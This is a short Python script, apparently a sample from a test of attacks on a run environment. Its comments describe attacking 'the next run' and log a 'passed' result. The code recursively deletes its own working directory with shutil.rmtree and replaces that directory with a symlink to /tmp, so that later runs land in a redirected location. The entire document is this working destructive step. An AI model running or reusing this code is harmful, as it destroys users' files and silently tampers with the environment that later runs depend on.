# attacks: the next run, by a link in the place of its working directory
# mess: passed, at most 1
import os, shutil
here = os.getcwd()
os.chdir("/"); shutil.rmtree(here); os.symlink("/tmp", here)
print("made")
